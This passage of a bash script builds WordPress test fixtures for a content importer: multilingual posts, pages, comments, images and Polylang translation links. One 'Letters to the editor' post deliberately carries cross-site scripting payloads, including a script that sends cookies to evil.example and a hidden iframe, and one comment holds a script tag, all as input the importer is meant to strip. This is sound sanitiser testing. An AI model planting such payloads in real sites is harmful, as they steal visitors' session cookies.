#!/usr/bin/env bash
# Regenerates tests/fixtures/wordpress/ (export.xml, uploads/, expected.json) from a REAL WordPress:
# Debian's `wordpress` package (/usr/share/wordpress, read only) driven by PHP CLI against a throw-away
# MariaDB server this script starts itself (mariadb-install-db + mariadbd on a temp datadir, unix socket in
# a temp dir, --skip-networking; no system service, nothing written outside the temp dir and the fixture).
# The content is made with WordPress's own API (wp_insert_user, wp_insert_term, wp_insert_post,
# wp_insert_attachment + wp_generate_attachment_metadata, set_post_thumbnail, wp_insert_comment, stick_post),
# images drawn with PHP GD (WordPress's GD image editor makes the renditions), the export written by
# WordPress's exporter (export_wp) and every URL in expected.json asked from WordPress (get_permalink,
# get_term_link, get_attachment_link). Polylang is not installed: a mu-plugin registers its taxonomies
# (language, post_translations, term_language, term_translations) and the script stores its data the way
# Polylang does, so the export carries Polylang's language and translation links.
# Needs: scripts/deps.sh --fixture (wordpress mariadb-server php-cli php-mysql php-gd).
# Repeatable: a fresh database each run, fixed dates and site URL; only the WXR header's <pubDate> differs.
# Usage: scripts/wp-fixture.sh [OUTDIR]   (default tests/fixtures/wordpress). Exit 0 ok, 1 failure.
set -euo pipefail
cd "$(dirname "$0")/.."
OUT="$(realpath -m "${1:-tests/fixtures/wordpress}")"
for b in mariadb-install-db mariadbd mariadb php; do
  command -v "$b" >/dev/null || [ -x "/usr/sbin/$b" ] || { echo "wp-fixture: $b missing: run scripts/deps.sh --fixture" >&2; exit 1; }
done
[ -f /usr/share/wordpress/wp-settings.php ] || { echo "wp-fixture: /usr/share/wordpress missing: scripts/deps.sh --fixture" >&2; exit 1; }
php -r 'exit(function_exists("mysqli_connect") && function_exists("imagecreatetruecolor") ? 0 : 1);' ||
  { echo "wp-fixture: PHP needs mysqli and gd (php-mysql php-gd)" >&2; exit 1; }

T="$(mktemp -d /tmp/wp-fixture.XXXXXX)"
DBPID=""
cleanup() {
  if [ -n "$DBPID" ] && kill -0 "$DBPID" 2>/dev/null; then
    kill "$DBPID" 2>/dev/null || true
    for _ in $(seq 1 100); do kill -0 "$DBPID" 2>/dev/null || break; sleep 0.1; done
  fi
  rm -rf "$T"
}
trap cleanup EXIT INT TERM
ME="$(id -un)"
mkdir -p "$T/db" "$T/run" "$T/wp-content/mu-plugins" "$T/wp-content/uploads" "$T/wp-content/themes" "$T/wp-content/plugins"

echo "== MariaDB: temporary server in $T"
MARIADBD="$(command -v mariadbd || echo /usr/sbin/mariadbd)"
mariadb-install-db --no-defaults --datadir="$T/db" --user="$ME" --auth-root-authentication-method=normal \
  --skip-test-db >"$T/install-db.log" 2>&1 || { cat "$T/install-db.log" >&2; exit 1; }
"$MARIADBD" --no-defaults --datadir="$T/db" --socket="$T/run/mysqld.sock" --skip-networking \
  --pid-file="$T/run/mysqld.pid" --log-error="$T/mariadbd.log" --user="$ME" --skip-log-bin \
  --innodb-buffer-pool-size=32M --character-set-server=utf8mb4 --collation-server=utf8mb4_unicode_ci &
DBPID=$!
for i in $(seq 1 100); do
  if mariadb --no-defaults --socket="$T/run/mysqld.sock" -uroot -e 'SELECT 1' >/dev/null 2>&1; then break; fi
  kill -0 "$DBPID" 2>/dev/null || { cat "$T/mariadbd.log" >&2; exit 1; }
  [ "$i" = 100 ] && { echo "wp-fixture: MariaDB did not start" >&2; cat "$T/mariadbd.log" >&2; exit 1; }
  sleep 0.2
done
mariadb --no-defaults --socket="$T/run/mysqld.sock" -uroot -e \
  'CREATE DATABASE wordpress CHARACTER SET utf8mb4 COLLATE utf8mb4_unicode_ci'

# Our own configuration instead of Debian's wp-config.php (which reads /etc/wordpress/config-HOST.php):
# the WordPress code stays in /usr/share/wordpress, wp-content (uploads, mu-plugins) is in the temp dir.
cat >"$T/wp-config.php" <<'PHP'
<?php
$_SERVER['HTTP_HOST'] = 'oldsite.example';
$_SERVER['SERVER_NAME'] = 'oldsite.example';
$_SERVER['REQUEST_URI'] = '/';
$_SERVER['REQUEST_METHOD'] = 'GET';
$_SERVER['SERVER_PROTOCOL'] = 'HTTP/1.1';
$T = getenv('WPFIX_TMP');
define('DB_NAME', 'wordpress');
define('DB_USER', 'root');
define('DB_PASSWORD', '');
define('DB_HOST', 'localhost:' . $T . '/run/mysqld.sock');
define('DB_CHARSET', 'utf8mb4');
define('DB_COLLATE', '');
foreach (array('AUTH_KEY', 'SECURE_AUTH_KEY', 'LOGGED_IN_KEY', 'NONCE_KEY', 'AUTH_SALT', 'SECURE_AUTH_SALT',
               'LOGGED_IN_SALT', 'NONCE_SALT') as $k) { define($k, 'fixture-' . $k); }
$table_prefix = 'wp_';
define('WP_HOME', 'http://oldsite.example');
define('WP_SITEURL', 'http://oldsite.example');
define('WP_CONTENT_DIR', $T . '/wp-content');
define('WP_CONTENT_URL', 'http://oldsite.example/wp-content');
define('DISABLE_WP_CRON', true);
define('WP_HTTP_BLOCK_EXTERNAL', true);
define('AUTOMATIC_UPDATER_DISABLED', true);
define('WP_DEBUG', true);
define('WP_DEBUG_DISPLAY', false);
define('WP_DEBUG_LOG', $T . '/debug.log');
define('ABSPATH', '/usr/share/wordpress/');
/* Pluggable: no mail leaves the machine (wp_install notifies the admin; sendmail would queue it). */
function wp_mail($to, $subject, $message, $headers = '', $attachments = array()) { return true; }
PHP

# Polylang's storage without Polylang: its four taxonomies, registered as Polylang registers them.
cat >"$T/wp-content/mu-plugins/polylang-storage.php" <<'PHP'
<?php
/* Registers the taxonomies Polylang stores its data in (language, post_translations on posts and pages;
 * term_language, term_translations on categories and tags), so the exporter writes them like a site
 * running Polylang; and a lower JPEG quality so the fixture's renditions stay small. */
add_action('init', function () {
	$hidden = array('public' => false, 'show_ui' => false, 'rewrite' => false, '_pll' => true);
	register_taxonomy('language', array('post', 'page'), $hidden + array('label' => 'Languages', 'query_var' => 'lang'));
	register_taxonomy('post_translations', array('post', 'page'), $hidden + array('label' => false, 'query_var' => false));
	register_taxonomy('term_language', array('category', 'post_tag'), $hidden + array('label' => false, 'query_var' => false));
	register_taxonomy('term_translations', array('category', 'post_tag'), $hidden + array('label' => false, 'query_var' => false));
}, 0);
add_filter('jpeg_quality', function () { return 55; });
add_filter('wp_editor_set_quality', function () { return 55; });
PHP

cat >"$T/install.php" <<'PHP'
<?php
/* Installs WordPress into the empty database (wp_install) and sets the site's options. */
define('WP_INSTALLING', true);
require getenv('WPFIX_TMP') . '/wp-config.php';
require ABSPATH . 'wp-settings.php';
require_once ABSPATH . 'wp-admin/includes/upgrade.php';
$r = wp_install('The Old Gazette', 'admin', 'admin@oldsite.example', true, '', 'fixture-password-not-exported');
if (empty($r['user_id'])) { fwrite(STDERR, "wp_install failed\n"); exit(1); }
/* The default content (Hello world!, Sample Page, Privacy Policy) carries today's date: gone. */
foreach (array(1, 2, 3) as $id) wp_delete_post($id, true);
update_option('blogdescription', 'News from the old site');
update_option('timezone_string', 'Asia/Riyadh');   /* UTC+3, no DST: local dates differ from GMT ones */
update_option('gmt_offset', '');
update_option('date_format', 'Y-m-d');
update_option('default_comment_status', 'open');
update_option('thread_comments', '1');
echo "installed WordPress ", get_bloginfo('version'), "\n";
PHP

echo "== WordPress: install"
export WPFIX_TMP="$T"
php "$T/install.php"

cat >"$T/content.php" <<'PHP'
<?php
/* Creates the fixture's content with WordPress's API. Permalinks are still plain while posts are made
 * (as on a site whose posts were first saved as auto-drafts, the GUIDs are ?p=ID); the date-based
 * structure is set at the end. */
require getenv('WPFIX_TMP') . '/wp-config.php';
require ABSPATH . 'wp-settings.php';
require_once ABSPATH . 'wp-admin/includes/image.php';
require_once ABSPATH . 'wp-admin/includes/file.php';
require_once ABSPATH . 'wp-admin/includes/media.php';
require_once ABSPATH . 'wp-admin/includes/post.php';

function must($v, $what) {
	if (is_wp_error($v) || !$v) { fwrite(STDERR, "failed: $what: " . (is_wp_error($v) ? $v->get_error_message() : 'false') . "\n"); exit(1); }
	return $v;
}
/* Draws a JPEG (gradient, bands, a label) with GD; with IPTC caption/credit/by-line when given. */
function draw_jpeg($w, $h, $rgb1, $rgb2, $label, $iptc = array()) {
	$im = imagecreatetruecolor($w, $h);
	for ($y = 0; $y < $h; $y++) {
		$t = $y / max(1, $h - 1);
		$c = imagecolorallocate($im, (int)($rgb1[0] + ($rgb2[0] - $rgb1[0]) * $t), (int)($rgb1[1] + ($rgb2[1] - $rgb1[1]) * $t), (int)($rgb1[2] + ($rgb2[2] - $rgb1[2]) * $t));
		imageline($im, 0, $y, $w, $y, $c);
	}
	$white = imagecolorallocate($im, 255, 255, 255);
	imagefilledrectangle($im, (int)($w * 0.1), (int)($h * 0.6), (int)($w * 0.45), (int)($h * 0.9), imagecolorallocate($im, 30, 30, 30));
	imagefilledellipse($im, (int)($w * 0.75), (int)($h * 0.3), (int)($h * 0.3), (int)($h * 0.3), imagecolorallocate($im, 250, 220, 90));
	imagestring($im, 5, 20, 20, $label, $white);
	ob_start(); imagejpeg($im, null, 55); $jpeg = ob_get_clean();
	imagedestroy($im);
	if ($iptc) {
		$data = '';
		foreach ($iptc as $tag => $value) {   /* dataset 2:tag, length < 32768 */
			$data .= chr(0x1C) . chr(2) . chr($tag) . pack('n', strlen($value)) . $value;
		}
		$tmp = tempnam(getenv('WPFIX_TMP'), 'img');
		file_put_contents($tmp, $jpeg);
		$jpeg = iptcembed($data, $tmp);
		unlink($tmp);
	}
	return $jpeg;
}
/* Uploads an image into uploads/YYYY/MM and makes it an attachment of $parent with renditions. */
function add_image($name, $bits, $ym, $parent, $author, $date, $title, $caption, $alt, $description = '') {
	$up = wp_upload_bits($name, null, $bits, $ym);
	if (!empty($up['error'])) { fwrite(STDERR, "upload $name: {$up['error']}\n"); exit(1); }
	$id = must(wp_insert_attachment(array(
		'post_mime_type' => 'image/jpeg', 'post_title' => $title, 'post_excerpt' => $caption,
		'post_content' => $description, 'post_status' => 'inherit', 'guid' => $up['url'],
		'post_author' => $author, 'post_date' => $date,
	), $up['file'], $parent, true), "attachment $name");
	wp_update_attachment_metadata($id, wp_generate_attachment_metadata($id, $up['file']));
	if ($alt !== '') update_post_meta($id, '_wp_attachment_image_alt', $alt);
	return $id;
}
function img_src($id, $size) { $s = wp_get_attachment_image_src($id, $size); return $s; }
/* One wp:image block inside a gallery (the block editor's markup of WordPress 6.1). */
function image_block($id, $caption) {
	$s = img_src($id, 'large');
	$alt = esc_attr(get_post_meta($id, '_wp_attachment_image_alt', true));
	return "<!-- wp:image {\"id\":$id,\"sizeSlug\":\"large\",\"linkDestination\":\"none\"} -->\n"
		. "<figure class=\"wp-block-image size-large\"><img src=\"{$s[0]}\" alt=\"$alt\" class=\"wp-image-$id\"/>"
		. "<figcaption class=\"wp-element-caption\">$caption</figcaption></figure>\n<!-- /wp:image -->";
}
function post($a) {
	$a += array('post_type' => 'post', 'post_status' => 'publish', 'comment_status' => 'open', 'ping_status' => 'open');
	return must(wp_insert_post(wp_slash($a), true), 'post ' . $a['post_title']);
}
function term($name, $tax, $args = array()) {
	$r = must(wp_insert_term($name, $tax, $args), "term $name");
	return $r['term_id'];
}
/* Polylang's data: a language term per language (taxonomy language), pll_xx terms for term languages. */
function pll_language($name, $slug, $locale, $rtl, $flag, $order) {
	$id = term($name, 'language', array('slug' => $slug, 'description' => serialize(array('locale' => $locale, 'rtl' => $rtl, 'flag_code' => $flag))));
	global $wpdb; $wpdb->update($wpdb->terms, array('term_group' => $order), array('term_id' => $id));
	term($name, 'term_language', array('slug' => 'pll_' . $slug));
	return $id;
}
function pll_set_post_language($post, $lang) { must(!is_wp_error(wp_set_object_terms($post, $lang, 'language')), "language $post"); }
function pll_set_term_language($term, $lang) { must(!is_wp_error(wp_set_object_terms($term, 'pll_' . $lang, 'term_language')), "term language $term"); }
/* A translation group as Polylang stores it: a term named and slugged pll_<id>, its description the
 * serialized array language => object id. (Polylang uses uniqid(); a fixed name keeps the export stable.) */
function pll_link($tax, $pair) {
	$name = 'pll_' . substr(md5($tax . serialize($pair)), 0, 13);
	term($name, $tax, array('slug' => $name, 'description' => serialize($pair)));
	foreach ($pair as $obj) must(!is_wp_error(wp_set_object_terms($obj, $name, $tax)), "translation $obj");
}
function comment($post, $a) {
	$a += array('comment_post_ID' => $post, 'comment_approved' => 1, 'comment_author_IP' => '192.0.2.10',
		'comment_agent' => 'Mozilla/5.0 (fixture)', 'comment_type' => 'comment', 'comment_parent' => 0, 'user_id' => 0,
		'comment_author_url' => '');
	$a['comment_date_gmt'] = get_gmt_from_date($a['comment_date']);
	return must(wp_insert_comment(wp_slash($a)), 'comment');
}

$admin = 1;
wp_set_current_user($admin);   /* an administrator has unfiltered_html: the hostile post is stored as written */
$sarah = must(wp_insert_user(array('user_login' => 'slane', 'user_email' => 'sarah.lane@oldsite.example', 'user_pass' => 'x-not-exported',
	'display_name' => 'Sarah Lane', 'first_name' => 'Sarah', 'last_name' => 'Lane', 'nickname' => 'Sarah', 'role' => 'editor',
	'user_registered' => '2020-01-02 08:00:00')), 'user slane');
$layla = must(wp_insert_user(array('user_login' => 'lhaddad', 'user_email' => 'layla.haddad@oldsite.example', 'user_pass' => 'x-not-exported',
	'display_name' => 'ليلى حداد', 'first_name' => 'ليلى', 'last_name' => 'حداد', 'nickname' => 'layla', 'role' => 'author',
	'user_registered' => '2020-01-03 08:00:00')), 'user lhaddad');

/* Languages (Polylang) */
pll_language('English', 'en', 'en_US', 0, 'us', 0);
pll_language('العربية', 'ar', 'ar', 1, 'arab', 1);

/* Categories (nested) and tags, English and Arabic */
$news = term('News', 'category', array('slug' => 'news', 'description' => 'All the news'));
$world = term('World', 'category', array('slug' => 'world', 'parent' => $news));
$mideast = term('Middle East', 'category', array('slug' => 'middle-east', 'parent' => $world));
$sport = term('Sport', 'category', array('slug' => 'sport'));
$akhbar = term('أخبار', 'category', array('description' => 'كل الأخبار'));
$alaalam = term('العالم', 'category', array('parent' => $akhbar));
$t_elec = term('Elections', 'post_tag', array('slug' => 'elections'));
$t_clim = term('Climate', 'post_tag', array('slug' => 'climate'));
$t_ar_elec = term('انتخابات', 'post_tag');
$t_ar_clim = term('المناخ', 'post_tag');
foreach (array($news, $world, $mideast, $sport, 1, $t_elec, $t_clim) as $t) pll_set_term_language($t, 'en');
foreach (array($akhbar, $alaalam, $t_ar_elec, $t_ar_clim) as $t) pll_set_term_language($t, 'ar');
pll_link('term_translations', array('en' => $world, 'ar' => $alaalam));
pll_link('term_translations', array('en' => $news, 'ar' => $akhbar));

/* 1. English lead story: sticky, excerpt, featured image with IPTC credit, threaded comments. */
$p1 = post(array('post_title' => 'Election results announced in the capital', 'post_author' => $sarah,
	'post_date' => '2024-03-10 09:00:00', 'post_excerpt' => 'Turnout was the highest in twenty years.',
	'post_category' => array($mideast, $news), 'tags_input' => array('elections'),
	'post_content' => "<!-- wp:paragraph -->\n<p>The electoral commission announced the <strong>final results</strong> on Sunday morning.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:heading -->\n<h2>What happens next</h2>\n<!-- /wp:heading -->\n\n<!-- wp:paragraph -->\n<p>Parliament meets in two weeks. <a href=\"https://example.org/commission\">The commission's site</a> has the figures.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:quote -->\n<blockquote class=\"wp-block-quote\"><p>Every vote was counted twice.</p><cite>The commission's chair</cite></blockquote>\n<!-- /wp:quote -->"));
$img1 = add_image('ballot-count.jpg', draw_jpeg(1200, 800, array(40, 60, 120), array(180, 200, 230), 'ballot count',
	array(80 => 'Sarah Lane', 110 => 'The Old Gazette / Sarah Lane', 116 => '(c) 2024 The Old Gazette', 120 => 'Counting ballots at a polling station')),
	'2024/03', $p1, $sarah, '2024-03-10 08:40:00', 'Ballot count', 'Volunteers count ballots in the capital.', 'People counting paper ballots at long tables');
set_post_thumbnail($p1, $img1);
stick_post($p1);
pll_set_post_language($p1, 'en');
$c1 = comment($p1, array('comment_author' => 'Omar', 'comment_author_email' => 'omar@example.net', 'comment_date' => '2024-03-10 11:00:00',
	'comment_content' => 'Good to see the turnout figures broken down by region.'));
$c2 = comment($p1, array('comment_author' => 'Sarah Lane', 'comment_author_email' => 'sarah.lane@oldsite.example', 'user_id' => $sarah,
	'comment_date' => '2024-03-10 11:30:00', 'comment_parent' => $c1, 'comment_content' => 'Thanks, Omar. The regional table is at the end.'));
comment($p1, array('comment_author' => 'Omar', 'comment_author_email' => 'omar@example.net', 'comment_date' => '2024-03-10 12:05:00',
	'comment_parent' => $c2, 'comment_content' => 'Found it, thank you.'));
comment($p1, array('comment_author' => 'Dana', 'comment_author_email' => 'dana@example.net', 'comment_date' => '2024-03-10 13:00:00',
	'comment_approved' => 0, 'comment_content' => 'Waiting for moderation: <b>when</b> are the district results out? <script>alert(document.cookie)</script>'));
comment($p1, array('comment_author' => 'Cheap pills', 'comment_author_email' => 'spam@example.com', 'comment_author_url' => 'http://spam.example.com/',
	'comment_date' => '2024-03-10 14:00:00', 'comment_approved' => 'spam', 'comment_content' => 'Buy now http://spam.example.com/'));
comment($p1, array('comment_author' => 'Removed', 'comment_author_email' => 'removed@example.net', 'comment_date' => '2024-03-10 15:00:00',
	'comment_approved' => 'trash', 'comment_content' => 'A comment an editor moved to the bin.'));
comment($p1, array('comment_author' => 'Another blog', 'comment_author_url' => 'https://blog.example.org/2024/03/elections/', 'comment_author_email' => '',
	'comment_date' => '2024-03-10 16:00:00', 'comment_type' => 'pingback', 'comment_content' => '[&#8230;] the capital announced its results [&#8230;]'));

/* 2. Its Arabic translation: Arabic slug (percent-encoded by WordPress), Arabic category and tag. */
$p2 = post(array('post_title' => 'إعلان نتائج الانتخابات في العاصمة', 'post_author' => $layla,
	'post_date' => '2024-03-10 10:00:00', 'post_excerpt' => 'كانت نسبة المشاركة الأعلى منذ عشرين عاماً.',
	'post_category' => array($alaalam), 'tags_input' => array('انتخابات'),
	'post_content' => "<!-- wp:paragraph -->\n<p>أعلنت لجنة الانتخابات <strong>النتائج النهائية</strong> صباح الأحد.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:paragraph -->\n<p>يجتمع البرلمان بعد أسبوعين، والأرقام كاملة على <a href=\"https://example.org/commission\">موقع اللجنة</a>.</p>\n<!-- /wp:paragraph -->"));
$img2 = add_image('فرز-الأصوات.jpg', draw_jpeg(1200, 800, array(120, 40, 40), array(240, 200, 160), 'farz',
	array(110 => 'الجريدة القديمة', 120 => 'فرز الأصوات في العاصمة')),
	'2024/03', $p2, $layla, '2024-03-10 09:50:00', 'فرز الأصوات', 'متطوعون يفرزون الأصوات في العاصمة.', 'أشخاص يفرزون أوراق الاقتراع');
set_post_thumbnail($p2, $img2);
pll_set_post_language($p2, 'ar');
pll_link('post_translations', array('en' => $p1, 'ar' => $p2));
$a1 = comment($p2, array('comment_author' => 'سامي', 'comment_author_email' => 'sami@example.net', 'comment_date' => '2024-03-10 12:00:00',
	'comment_content' => 'شكراً على التغطية السريعة.'));
comment($p2, array('comment_author' => 'ليلى حداد', 'comment_author_email' => 'layla.haddad@oldsite.example', 'user_id' => $layla,
	'comment_date' => '2024-03-10 12:20:00', 'comment_parent' => $a1, 'comment_content' => 'شكراً لك يا سامي.'));
comment($p2, array('comment_author' => 'هدى', 'comment_author_email' => 'huda@example.net', 'comment_date' => '2024-03-10 12:40:00',
	'comment_approved' => 0, 'comment_content' => 'متى تصدر نتائج المحافظات؟'));

/* 3. Block-editor gallery, published just after midnight local time on 1 April (31 March in UTC):
 * its old permalink says /2024/04/ although its GMT date is in March. */
$p3 = post(array('post_title' => 'Photos: spring in the old city', 'post_author' => $sarah, 'post_date' => '2024-04-01 01:30:00',
	'post_excerpt' => 'Blossom, markets and the first warm evenings.', 'post_category' => array($news), 'tags_input' => array('climate'),
	'post_content' => ''));
$g = array();
$g[] = add_image('market.jpg', draw_jpeg(1100, 733, array(20, 110, 60), array(220, 240, 180), 'market'), '2024/04', $p3, $sarah,
	'2024-04-01 01:00:00', 'Market', 'The spice market at opening time.', 'Stalls with sacks of spices');
$g[] = add_image('blossom.jpg', draw_jpeg(1100, 733, array(200, 90, 140), array(250, 230, 240), 'blossom'), '2024/04', $p3, $sarah,
	'2024-04-01 01:05:00', 'Blossom', 'Almond trees in the old city.', 'White almond blossom against a blue sky');
$g[] = add_image('evening.jpg', draw_jpeg(1100, 733, array(20, 20, 60), array(240, 150, 60), 'evening'), '2024/04', $p3, $sarah,
	'2024-04-01 01:10:00', 'Evening', 'The first warm evening of the year.', 'People on a terrace at sunset');
$gallery = "<!-- wp:paragraph -->\n<p>Spring arrived early this year.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:gallery {\"linkTo\":\"none\"} -->\n"
	. "<figure class=\"wp-block-gallery has-nested-images columns-default is-cropped\">"
	. image_block($g[0], 'The spice market at opening time.') . "\n\n" . image_block($g[1], 'Almond trees in the <em>old city</em>.') . "\n\n"
	. image_block($g[2], 'The first warm evening of the year.')
	. "<figcaption class=\"blocks-gallery-caption wp-element-caption\">Spring in the old city. Photos: Sarah Lane</figcaption></figure>\n<!-- /wp:gallery -->";
global $wpdb;   /* the content names the attachment ids, known only now: store it without a revision or new modified date */
$wpdb->update($wpdb->posts, array('post_content' => $gallery), array('ID' => $p3));
clean_post_cache($p3);
set_post_thumbnail($p3, $g[1]);
pll_set_post_language($p3, 'en');

/* 4. Classic-editor post (no blocks): [gallery] and [caption] shortcodes, an internal ?p= link. */
$p4 = post(array('post_title' => 'From the archive: the harbour in 1998', 'post_author' => $admin, 'post_date' => '2023-11-05 18:15:00',
	'post_category' => array($news), 'post_content' => 'placeholder'));
$h1 = add_image('harbour-1998.jpg', draw_jpeg(1000, 700, array(60, 60, 60), array(200, 200, 200), 'harbour 1998',
	array(80 => 'Archive', 110 => 'The Old Gazette archive', 120 => 'The harbour in 1998')),
	'2023/11', $p4, $admin, '2023-11-05 18:00:00', 'Harbour 1998', 'The harbour before the new quay.', 'Fishing boats moored in a small harbour');
$h2 = add_image('quay.jpg', draw_jpeg(1000, 700, array(90, 80, 60), array(220, 210, 190), 'quay'), '2023/11', $p4, $admin,
	'2023-11-05 18:01:00', 'The old quay', 'The old quay, demolished in 2001.', 'A stone quay with cranes');
$m = img_src($h1, 'medium');
$classic = "Twenty-five years ago the harbour looked like this.\n\n"
	. "[caption id=\"attachment_$h1\" align=\"aligncenter\" width=\"{$m[1]}\"]<img class=\"size-medium wp-image-$h1\" src=\"{$m[0]}\" alt=\"Fishing boats moored in a small harbour\" width=\"{$m[1]}\" height=\"{$m[2]}\" /> The harbour before the new quay. Photo: archive[/caption]\n\n"
	. "More pictures from the archive:\n\n[gallery ids=\"$h1,$h2\" columns=\"2\" size=\"medium\"]\n\n"
	. "See also <a href=\"http://oldsite.example/?p=$p1\">this year's election results</a>.";
$wpdb->update($wpdb->posts, array('post_content' => $classic), array('ID' => $p4));
clean_post_cache($p4);
set_post_thumbnail($p4, $h1);
pll_set_post_language($p4, 'en');
comment($p4, array('comment_author' => 'Old sailor', 'comment_author_email' => 'sailor@example.net', 'comment_date' => '2023-11-06 09:00:00',
	'comment_content' => "I worked on that quay.\nGood memories."));

/* 5. Hostile markup the importer must strip (stored as written: the author has unfiltered_html). */
$p5 = post(array('post_title' => 'Letters to the editor', 'post_author' => $sarah, 'post_date' => '2024-02-14 07:00:00',
	'post_category' => array($news), 'tags_input' => array('climate'),
	'post_content' => "<p style=\"color:red;font-size:40px\" onclick=\"alert(1)\">Readers wrote to us about the new bus lanes.</p>\n"
	. "<script>document.write('<img src=//evil.example/t.gif?c='+document.cookie+'>')</script>\n"
	. "<p>One reader <span style=\"background:url(javascript:alert(2))\">asked</span> why the <a href=\"javascript:alert(3)\">consultation</a> was so short.</p>\n"
	. "<iframe src=\"https://evil.example/frame\" width=\"1\" height=\"1\"></iframe>\n"
	. "<p><img src=\"x\" onerror=\"alert(4)\" alt=\"broken\"></p>\n"
	. "<style>body{display:none}</style>\n<p>Another reader <em>thanked</em> the drivers.</p>"));
pll_set_post_language($p5, 'en');

/* 6. Scheduled (future) and 7. draft. */
$p6 = post(array('post_title' => 'Preview: the budget debate', 'post_author' => $sarah, 'post_date' => '2099-01-15 09:00:00',
	'post_status' => 'future', 'post_category' => array($news), 'post_content' => '<!-- wp:paragraph -->
<p>The finance minister presents the budget on Thursday.</p>
<!-- /wp:paragraph -->'));
pll_set_post_language($p6, 'en');
$p7 = post(array('post_title' => 'Draft: notes on the transport plan', 'post_author' => $layla, 'post_date' => '2024-03-20 15:00:00',
	'post_status' => 'draft', 'post_content' => '<!-- wp:paragraph -->
<p>To be written.</p>
<!-- /wp:paragraph -->'));
pll_set_post_language($p7, 'en');

/* 8. Pages: About us with a child page, and its Arabic translation. */
$pg1 = post(array('post_type' => 'page', 'post_title' => 'About us', 'post_author' => $admin, 'post_date' => '2020-01-05 10:00:00',
	'comment_status' => 'closed', 'ping_status' => 'closed', 'post_content' => '<!-- wp:paragraph -->
<p>The Old Gazette has reported on the city since 1998.</p>
<!-- /wp:paragraph -->'));
$pg2 = post(array('post_type' => 'page', 'post_title' => 'Our team', 'post_parent' => $pg1, 'menu_order' => 1, 'post_author' => $admin,
	'post_date' => '2020-01-05 10:30:00', 'comment_status' => 'closed', 'ping_status' => 'closed', 'post_content' => '<p>Editors and reporters.</p>'));
$pg3 = post(array('post_type' => 'page', 'post_title' => 'من نحن', 'post_author' => $layla, 'post_date' => '2020-01-06 10:00:00',
	'comment_status' => 'closed', 'ping_status' => 'closed', 'post_content' => '<!-- wp:paragraph -->
<p>تغطي الجريدة القديمة أخبار المدينة منذ عام 1998.</p>
<!-- /wp:paragraph -->'));
pll_set_post_language($pg1, 'en'); pll_set_post_language($pg2, 'en'); pll_set_post_language($pg3, 'ar');
pll_link('post_translations', array('en' => $pg1, 'ar' => $pg3));

/* 9. Arabic story in a nested Arabic category with an inline image whose file is NOT in the fixture's
 * uploads (the importer reports it missing), Latin digits in the slug. */
$p9 = post(array('post_title' => 'تقرير: المناخ 2024 في المدن العربية', 'post_author' => $layla, 'post_date' => '2024-02-20 08:00:00',
	'post_excerpt' => 'حرارة قياسية وأمطار أقل.', 'post_category' => array($alaalam), 'tags_input' => array('المناخ'), 'post_content' => 'x'));
$lost = add_image('heat-map.jpg', draw_jpeg(600, 400, array(250, 120, 20), array(250, 240, 120), 'heat map'), '2024/02', $p9, $layla,
	'2024-02-20 07:50:00', 'خريطة الحرارة', 'خريطة درجات الحرارة في شباط.', 'خريطة ملونة لدرجات الحرارة');
$ls = img_src($lost, 'medium');
$wpdb->update($wpdb->posts, array('post_content' => "<!-- wp:paragraph -->\n<p>سجّلت المدن العربية درجات حرارة قياسية هذا العام.</p>\n<!-- /wp:paragraph -->\n\n"
	. "<!-- wp:image {\"id\":$lost,\"sizeSlug\":\"medium\",\"linkDestination\":\"none\"} -->\n<figure class=\"wp-block-image size-medium\"><img src=\"{$ls[0]}\" alt=\"خريطة ملونة لدرجات الحرارة\" class=\"wp-image-$lost\"/><figcaption class=\"wp-element-caption\">خريطة درجات الحرارة في شباط.</figcaption></figure>\n<!-- /wp:image -->"),
	array('ID' => $p9));
clean_post_cache($p9);
pll_set_post_language($p9, 'ar');

/* 10. A sport story, edited after publication (its modified date is later), no comments allowed. */
$p10 = post(array('post_title' => 'City club wins the cup', 'post_author' => $sarah, 'post_date' => '2024-01-28 21:45:00',
	'comment_status' => 'closed', 'post_category' => array($sport), 'post_content' => '<!-- wp:paragraph -->
<p>A late goal settled the final.</p>
<!-- /wp:paragraph -->'));
$wpdb->update($wpdb->posts, array('post_modified' => '2024-01-29 10:00:00', 'post_modified_gmt' => '2024-01-29 07:00:00'), array('ID' => $p10));
clean_post_cache($p10);
pll_set_post_language($p10, 'en');

/* Old URLs are date-based. */
global $wp_rewrite;
$wp_rewrite->set_permalink_structure('/%year%/%monthnum%/%postname%/');
file_put_contents(getenv('WPFIX_TMP') . '/missing.txt', get_post_meta($lost, '_wp_attached_file', true));
echo "content: ", wp_count_posts('post')->publish, " published posts\n";
PHP

echo "== WordPress: content"
php "$T/content.php"

cat >"$T/export.php" <<'PHP'
<?php
/* A fresh WordPress process (rewrite rules of the date-based structure in place): writes the export with
 * WordPress's exporter and expected.json with the URLs WordPress gives for every object. */
require getenv('WPFIX_TMP') . '/wp-config.php';
require ABSPATH . 'wp-settings.php';
require_once ABSPATH . 'wp-admin/includes/export.php';
flush_rewrite_rules(false);
$out = getenv('WPFIX_OUT');
$missing = trim(file_get_contents(getenv('WPFIX_TMP') . '/missing.txt'));
$home = home_url();
function rel($url) { global $home; return strpos($url, $home) === 0 ? substr($url, strlen($home)) : $url; }
function lang_of($id) { $t = wp_get_object_terms($id, 'language', array('fields' => 'slugs')); return $t ? $t[0] : null; }
function term_facts($t) {
	$f = array('term_id' => $t->term_id, 'name' => $t->name, 'slug' => $t->slug, 'path' => rel(get_term_link($t)));
	if ($t->parent) $f['parent'] = get_term($t->parent)->slug;
	$l = wp_get_object_terms($t->term_id, 'term_language', array('fields' => 'slugs'));
	if ($l) $f['edition'] = substr($l[0], 4);
	return $f;
}
function translations($id, $tax) {
	$t = wp_get_object_terms($id, $tax);
	if (!$t) return null;
	$pair = unserialize($t[0]->description);
	return array_map('intval', $pair);
}
$posts = array();
foreach (get_posts(array('post_type' => array('post', 'page'), 'post_status' => 'any', 'numberposts' => -1, 'orderby' => 'ID', 'order' => 'ASC')) as $p) {
	$counts = array();
	foreach (array('approved' => '1', 'pending' => '0', 'spam' => 'spam', 'trash' => 'trash') as $k => $state) {
		$counts[$k] = (int) $GLOBALS['wpdb']->get_var($GLOBALS['wpdb']->prepare("SELECT COUNT(*) FROM {$GLOBALS['wpdb']->comments} WHERE comment_post_ID = %d AND comment_approved = %s", $p->ID, $state));
	}
	$counts['in_export'] = $counts['approved'] + $counts['pending'] + $counts['trash'];   /* export_wp leaves spam out */
